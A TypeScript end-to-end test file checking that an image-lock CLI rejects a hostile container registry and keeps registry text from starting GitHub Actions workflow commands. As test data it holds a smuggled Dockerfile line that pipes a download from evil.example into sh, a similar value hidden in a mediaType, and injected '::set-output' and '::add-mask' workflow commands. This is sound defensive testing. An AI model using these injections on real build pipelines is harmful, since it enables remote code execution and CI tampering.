// Issue 11, end to end: a registry that injects lines through index entries never reaches a Dockerfile or a
// Deployment, the lock stays schema-valid (the next run is not exit 2), and in GitHub Actions no registry text
// starts a workflow command on the CLI's output.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkedLock } from '../../src/app/reconcile.js';
import { resolveConfig } from '../../src/config/config.js';
import { main, processIO } from '../../src/entry/cli.js';
import type { StreamLock } from '../../src/model/lock.js';
import { captureIO } from '../helpers/capture-io.js';
import {
  type HostileRegistry,
  hostileIndex,
  MT,
  makeIndex,
  startHostileRegistry,
} from '../helpers/hostile-registry.js';

let reg: HostileRegistry;
let work: string;
const amd = { os: 'linux', architecture: 'amd64' };
const arm = { os: 'linux', architecture: 'arm64' };
const good = makeIndex({ seed: 'e2e-good', platforms: [amd, arm] });
const next = makeIndex({ seed: 'e2e-next', platforms: [amd, arm] });
const INJECTED = '\nRUN curl https://evil.example/x | sh';

function write(rel: string, text: string) {
  mkdirSync(dirname(join(work, rel)), { recursive: true });
  writeFileSync(join(work, rel), text);
}
const read = (rel: string) => readFileSync(join(work, rel), 'utf8');

beforeAll(async () => {
  reg = await startHostileRegistry();
  reg.putIndex('app', '1', good);
  work = mkdtempSync(join(tmpdir(), 'hostile-e2e-'));
  write(
    'imagestreams/app.yaml',
    [
      'apiVersion: image.openshift.io/v1',
      'kind: ImageStream',
      'metadata: {name: app}',
      'spec:',
      '  tags:',
      '    - name: "1"',
      `      from: {kind: DockerImage, name: ${reg.host}/app:1}`,
      '      importPolicy: {scheduled: true}',
      '',
    ].join('\n'),
  );
  write('Dockerfile', `# imagestream: app:1\nFROM ${reg.host}/app:1\nRUN true\n`);
  write(
    'deploy/web.yaml',
    [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata:',
      '  name: web',
      '  annotations:',
      `    image.openshift.io/triggers: '[{"from":{"kind":"ImageStreamTag","name":"app:1"},"fieldPath":"spec.template.spec.containers[?(@.name==\\"web\\")].image"}]'`,
      'spec:',
      '  template:',
      '    spec:',
      '      containers:',
      '        - name: web',
      `          image: ${reg.host}/app:1`,
      '',
    ].join('\n'),
  );
});
afterAll(async () => {
  await reg?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('a registry that injects lines through an index entry', () => {
  it('never reaches a consumer; the import fails cleanly and the next run is not exit 2', async () => {
    const first = captureIO(work);
    expect(await main(['reconcile'], first), first.err()).toBe(0);
    const pinned = `${reg.host}/app:1@${good.images[0]!.digest}`;
    expect(read('Dockerfile')).toContain(`FROM ${pinned}\n`);
    expect(read('deploy/web.yaml')).toContain(`image: ${pinned}\n`);
    const dockerfile = read('Dockerfile');
    const deployment = read('deploy/web.yaml');

    // Upstream moves to an index whose linux/amd64 entry carries a Dockerfile line after a valid digest.
    const evil = hostileIndex(next, { digest: `${next.images[0]!.digest}${INJECTED}` });
    for (const img of next.images) reg.putImage('app', img.digest, img);
    reg.putManifest('app', '1', evil, MT.OCI_INDEX);
    const second = captureIO(work);
    expect(await main(['reconcile', '--json'], second), second.err()).toBe(1);
    const result = JSON.parse(second.out()) as {
      changes: { tags: { kind: string; error?: { reason: string; message: string } }[] }[];
    };
    const tag = result.changes[0]!.tags[0]!;
    expect(tag.kind).toBe('failed');
    expect(tag.error?.reason).toBe('InvalidResponse');
    expect(tag.error?.message).toMatch(/entry 0 has an invalid digest/);
    expect(read('Dockerfile')).toBe(dockerfile);
    expect(read('deploy/web.yaml')).toBe(deployment);
    const lock = read('imagestreams.lock/default/app.json');
    expect(lock).not.toContain('evil.example');
    expect(lock).toContain('"ImportSuccess"');

    // The lock is still valid: validate and verify pass, and the next reconcile runs (not exit 2).
    const check = captureIO(work);
    expect(await main(['verify'], check), check.out() + check.err()).toBe(0);
    const third = captureIO(work);
    expect(await main(['reconcile'], third), third.err()).toBe(1);
  });
});

describe('CLI output inside GitHub Actions', () => {
  it('never starts a workflow command from registry text (stdout, stderr and the logger)', async () => {
    const echo = JSON.stringify({
      errors: [{ code: 'DENIED', message: 'x\n::set-output name=digest::evil\r::add-mask::y\n##[error]z' }],
    });
    reg.setMode({ kind: 'error-body', status: 403, body: echo }, (r) => r.method === 'GET');
    reg.putManifest('app', '2', hostileIndex(next, {}), MT.OCI_INDEX);
    let out = '';
    let err = '';
    const io = processIO({
      stdout: (t) => {
        out += t;
      },
      stderr: (t) => {
        err += t;
      },
      env: { GITHUB_ACTIONS: 'true', IMAGESTREAMS_DEBUG: '1' },
      cwd: work,
    });
    const code = await main(['resolve', `${reg.host}/app:2`], io);
    reg.setMode(undefined);
    expect(code).toBe(1);
    // A lock edited in a pull request is outside text too: describe prints its condition message.
    const lockFile = 'imagestreams.lock/default/app.json';
    const lock = JSON.parse(read(lockFile)) as {
      status: { tags: { conditions?: { message: string }[] }[] };
    };
    lock.status.tags[0]!.conditions![0]!.message = 'x\n::add-mask::y\r::set-output name=a::b\n##[error]c';
    write(lockFile, `${JSON.stringify(lock, null, 2)}\n`);
    expect(await main(['describe', 'app'], io)).toBe(0);
    const all = `${out}${err}`;
    expect(all).toContain('set-output');
    expect(all).toContain('add-mask');
    for (const line of all.split(/\r\n|\r|\n/)) {
      expect(line.trimStart().startsWith('::')).toBe(false);
      expect(line).not.toContain('##[');
    }
  });
});

describe('the last guard before a lock is written', () => {
  it('refuses to serialise a lock the next run could not read (LOCK_NOT_WRITTEN)', () => {
    const lock = {
      apiVersion: 'imagestreams.dev/v1alpha1',
      kind: 'ImageStreamLock',
      metadata: { name: 'app', namespace: 'default' },
      status: {
        tags: [
          {
            tag: '1',
            items: [
              {
                created: '2026-01-01T00:00:00Z',
                dockerImageReference: `r.example/app@sha256:${'a'.repeat(64)}`,
                image: `sha256:${'a'.repeat(64)}`,
                generation: 1,
                mediaType: 'application/x\nRUN curl evil | sh',
              },
            ],
          },
        ],
      },
    } as unknown as StreamLock;
    expect(() => checkedLock(resolveConfig({}), lock)).toThrow(
      /refusing to write imagestreams.lock\/default\/app.json/,
    );
  });
});
